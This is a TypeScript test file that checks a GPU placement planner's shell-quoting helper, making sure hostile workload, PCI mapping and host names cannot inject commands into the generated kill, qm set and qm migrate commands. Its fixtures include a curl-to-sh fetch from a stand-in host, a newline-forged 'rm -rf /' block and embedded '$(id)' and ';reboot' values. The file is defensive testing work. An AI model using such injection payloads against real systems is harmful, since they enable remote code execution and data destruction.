/**
 * Shell safety of the plan's commands: every value from the inputs placed in a command is one POSIX shell
 * word (shell.ts `shq`), and no command or explanation holds a newline or another control character.
 * Issue: a workload named `train$(curl …|sh)` gave `kill <PIDs of train$(curl …|sh)>`, and a name with a
 * newline forged a "Commands (run these now)" block.
 */
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { analyzeAndPlan, planHost } from '../../scoring/placement/index.ts';
import { oneLine, REPLACEMENT, shq } from '../../scoring/placement/shell.ts';
import type { Snapshot } from '../../scoring/snapshot.ts';
import { host, L40S_TOPO, scenario, smiCsv, topoText, workloads } from '../helpers/placement.ts';

const EVIL = 'train$(curl -s http://x.example/p|sh)';
const FORGED = 'etl\nCommands (run these now):\n  1. rm -rf / #';
// biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters is the point
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** A command with its single-quoted words taken out: what the shell would expand. */
const unquoted = (command: string) => command.replace(/'[^']*'/g, '');

/** What `sh` makes of a word: the argument `printf %s` receives. */
const shell = (word: string) => execFileSync('sh', ['-c', `printf %s ${word}`], { encoding: 'utf8' });

describe('shq: one shell word, whatever the value', () => {
  const values = [
    'train-a',
    '0000:3a:00,pcie=1',
    '24-39,136-151',
    EVIL,
    "it's",
    'a b',
    '`reboot`',
    '$HOME',
    'x;y|z&w>v<u',
    '',
    '*',
    '~root',
    "'';''",
    'ümlaut 한국어',
  ];
  for (const v of values)
    it(JSON.stringify(v), () => {
      expect(shell(shq(v))).toBe(v);
    });

  it('leaves safe words unquoted (the commands stay readable)', () => {
    expect(shq('0000:3a:00,pcie=1')).toBe('0000:3a:00,pcie=1');
    expect(shq('mapping=h200-gpu3,pcie=1')).toBe('mapping=h200-gpu3,pcie=1');
    expect(shq('cpus=0-31,hostnodes=0,memory=262144,policy=bind')).toBe(
      'cpus=0-31,hostnodes=0,memory=262144,policy=bind',
    );
    expect(shq('cpus=0-5,hostnodes=3;5;7,memory=1024,policy=bind')).toBe(
      "'cpus=0-5,hostnodes=3;5;7,memory=1024,policy=bind'",
    );
  });

  it('never lets a newline or control character through', () => {
    for (const v of [FORGED, 'a\rb', 'a\u0000b', 'a\u2028b', 'x\u202eexe.txt', 'tab\there'])
      expect(shq(v)).not.toMatch(CONTROL);
    expect(shell(shq('a\nb'))).toBe(`a${REPLACEMENT}b`);
    expect(oneLine(FORGED)).not.toContain('\n');
  });
});

const allText = (p: ReturnType<typeof planHost>) => [
  ...p.commands.flatMap((c) => [c.command, c.what.en, c.what.ko]),
  ...p.moves.flatMap((m) => [m.reason.en, m.reason.ko]),
  ...p.expected.flatMap((g) => [g.summary.en, g.summary.ko]),
  ...p.notes,
];

describe('bare-metal jobs with hostile names', () => {
  const snap = host([
    { name: 'topo.txt', content: topoText(L40S_TOPO) },
    smiCsv([
      ['NVIDIA L40S', 0, 46068, 0],
      ['NVIDIA L40S', 30000, 46068, 90],
      ['NVIDIA L40S', 30000, 46068, 90],
      ['NVIDIA L40S', 20000, 46068, 60],
    ]),
    workloads([
      { name: 'ddp', kind: 'training', gpus: [1, 2], cpus: '0-15' },
      { name: 'etl', kind: 'other', gpus: [3], cpus: '0-3' },
    ]),
  ]);
  // the names as they would arrive if the input did not refuse them (validation is the parsers' part)
  snap.workloads[0]!.name = EVIL;
  snap.workloads[1]!.name = FORGED;
  const plan = planHost(snap);

  it('the premise: both move and get commands', () => {
    expect(plan.moves).toHaveLength(2);
    expect(plan.commands.filter((c) => c.command.startsWith('kill '))).toHaveLength(2);
  });

  it('the names are single-quoted words in the commands', () => {
    const kill = plan.commands.find((c) => c.command.startsWith('kill ') && c.command.includes('curl'))!;
    expect(kill.command).toBe(`kill <PIDs of ${shq(EVIL)} on GPU1, GPU2>`);
    expect(kill.command).toContain("'train$(curl -s http://x.example/p|sh)'");
    for (const c of plan.commands) expect(unquoted(c.command)).not.toMatch(/[$`]/);
  });

  it('no command, explanation, reason or note holds a newline or control character', () => {
    for (const s of allText(plan)) expect(s, JSON.stringify(s)).not.toMatch(CONTROL);
    expect(plan.commands.some((c) => c.what.en.includes('Commands (run these now)'))).toBe(true);
  });
});

describe('Proxmox values from the inputs: PCI mapping ids, host names', () => {
  it('a mapping id with shell characters is quoted', () => {
    const snap: Snapshot = scenario('h200');
    const vm = snap.workloads.find((w) => w.name === 'train-vision-b')!.vm!;
    const buses = snap.gpus.map((g) => g.busId!);
    snap.pciMappings = Object.fromEntries(buses.map((b, i) => [`gpu${i};reboot`, [b]]));
    vm.hostpci = vm.hostpci.map((h) => ({ ...h, mapping: `gpu-old`, raw: 'mapping=gpu-old,pcie=1' }));
    const plan = planHost(snap);
    const set = plan.commands.find((c) => c.command.startsWith('qm set 102 '))!;
    expect(set.command).toMatch(/--hostpci0 'mapping=gpu\d;reboot,pcie=1'/);
    for (const s of allText(plan)) expect(s).not.toMatch(CONTROL);
  });

  it('qm migrate quotes the target host name', () => {
    const a = scenario('h200');
    const b = scenario('l40s');
    // the L40S host's inference job migrates to the H200 host, here with a hostile name
    a.host = 'node$(id)';
    const analysis = analyzeAndPlan([a, b]);
    const migrations = analysis.fleet.placement?.migrations ?? [];
    expect(migrations.map((m) => m.command)).toEqual(["qm migrate 302 'node$(id)'"]);
    for (const m of migrations) {
      expect(unquoted(m.command)).not.toMatch(/[$`]/);
      expect(m.command).not.toMatch(CONTROL);
    }
  });
});
